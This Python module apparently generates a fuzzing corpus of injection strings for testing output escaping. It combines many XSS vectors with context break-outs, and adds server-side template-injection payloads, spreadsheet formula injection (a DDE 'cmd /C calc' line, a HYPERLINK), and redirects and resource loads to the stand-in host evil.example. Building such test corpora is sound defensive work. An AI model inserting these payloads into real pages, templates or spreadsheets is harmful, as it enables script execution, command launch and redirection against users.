"""Hostile texts, generated: every way to run something, in every place that it could break out of.

A text calls ``fired(NUMBER)`` where it is taken for markup, so that a browser tells which one ran.
"""

from collections.abc import Iterator, Mapping
from itertools import islice, product

CONTEXTS: Mapping[str, tuple[str, str]] = {
    "in text": ("", ""),
    "in an attribute": ('">', ""),
    "in an attribute of single quotes": ("'>", ""),
    "in an attribute without quotes": (" x>", ""),
    "in a text area": ("</textarea>", ""),
    "in a title": ("</title>", ""),
    "in a script": ("</script>", ""),
    "in a style": ("</style>", ""),
    "in a comment": ("-->", "<!--"),
    "in character data": ("]]>", ""),
    "in a choice": ("</option></select>", ""),
    "behind a backslash": ('\\">', "\\"),
    "behind a mark of direction": ("\u202e\u2066", "\u2069"),
}
"""Where a text may end up, as what stands before and behind the vector."""
RUN_BY_THEMSELVES = (
    "<script>fired({n})</script>",
    "<ScRiPt >fired({n})</sCrIpT\t>",
    "<img src=x: onerror=fired({n})>",
    "<img/src=x:/onerror=fired({n})>",
    '<IMG SRC="x:" ONERROR="fired({n})">',
    "<image src=x: onerror=fired({n})>",
    "<svg onload=fired({n})>",
    "<svg><script>fired({n})</script></svg>",
    "<svg><script href=data:,fired({n})></script></svg>",
    "<svg><animate onbegin=fired({n}) attributeName=x dur=1s>",
    "<details open ontoggle=fired({n})>",
    "<video src=x: onerror=fired({n})></video>",
    "<audio src=x: onerror=fired({n})></audio>",
    "<video><source onerror=fired({n})></video>",
    "<input autofocus onfocus=fired({n})>",
    '<iframe srcdoc="<script>parent.fired({n})</script>"></iframe>',
    "<iframe src=javascript:parent.fired({n})></iframe>",
    "<iframe onload=fired({n})></iframe>",
    "<object data=x: onerror=fired({n})></object>",
    "<link rel=stylesheet href=x: onerror=fired({n})>",
    "<math><mtext><table><mglyph><style><img src=x: onerror=fired({n})>",
    "<noscript><p title='</noscript><img src=x: onerror=fired({n})>'>",
)
"""Vectors that run when a page that holds them is opened."""
RUN_IF_USED = (
    " onmouseover=fired({n}) x=",
    "<a href=javascript:fired({n})>x</a>",
    "<a href='java\tscript:fired({n})'>x</a>",
    "javascript:fired({n})//",
    "&#106;avascript&colon;fired({n})",
    "data:text/html,<script>fired({n})</script>",
    "<form action=javascript:fired({n})><button>x",
    "<button formaction=javascript:fired({n})>x",
    "<base href=//evil.example/{n}/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<style>*{{background:url(//evil.example/{n})}}</style>",
    "<div hx-get=/?{n} hx-trigger=load hx-on::load=fired({n})>",
    "<div data-hx-post=//evil.example/{n} hx-trigger=load>",
    "{{{{ fired({n}) }}}}",
    "{{{{ ''.__class__.__mro__[1].__subclasses__()[{n}] }}}}",
    "{{% for x in fired({n}) %}}x{{% endfor %}}",
    "${{fired({n})}}#{{fired({n})}}<%= fired({n}) %>",
    "\uff1cscript\uff1efired({n})\uff1c/script\uff1e",
    "<scr\u200bipt>fired({n})</scr\u200bipt>",
    "\u202etpircs\u202c<b>{n}\u2028\u2029\u0085\u00ad\x07\x1b[31m",
    "e\u0301\u0301\u0301\U0001f468\u200d\U0001f469\u200d\U0001f467\u0000{n}".replace("\0", "\x01"),
    '=HYPERLINK("http://evil.example/{n}","x")',
    "+cmd|' /C calc {n}'!A0",
    "@SUM({n})",
    "-{n}+1|x",
    '"}}],"n":{n},"x":[{{"',
    "\\u003cscript\\u003efired({n})\\u003c/script\\u003e",
)
"""Vectors that need a click, another host, a template engine, a spreadsheet or a reader who is deceived."""
VECTORS = RUN_BY_THEMSELVES + RUN_IF_USED


def hostile_texts(n: int | None = None) -> list[str]:
    """The first ``n`` of all texts, or all of them; each with its number, contexts in turn."""
    return list(islice(_texts(), n))


def _texts() -> Iterator[str]:
    for number, ((before, behind), vector) in enumerate(product(CONTEXTS.values(), VECTORS)):
        yield f"{before}{vector.format(n=number)}{behind}"


def packed(texts: list[str], longest: int) -> list[str]:
    """The texts, in order, as few longer ones of at most so many characters, a space between two."""
    found = [""]
    for text in texts:
        if len(found[-1]) + len(text) + 1 > longest:
            found.append("")
        found[-1] = f"{found[-1]} {text}".strip()
    return [each for each in found if each]
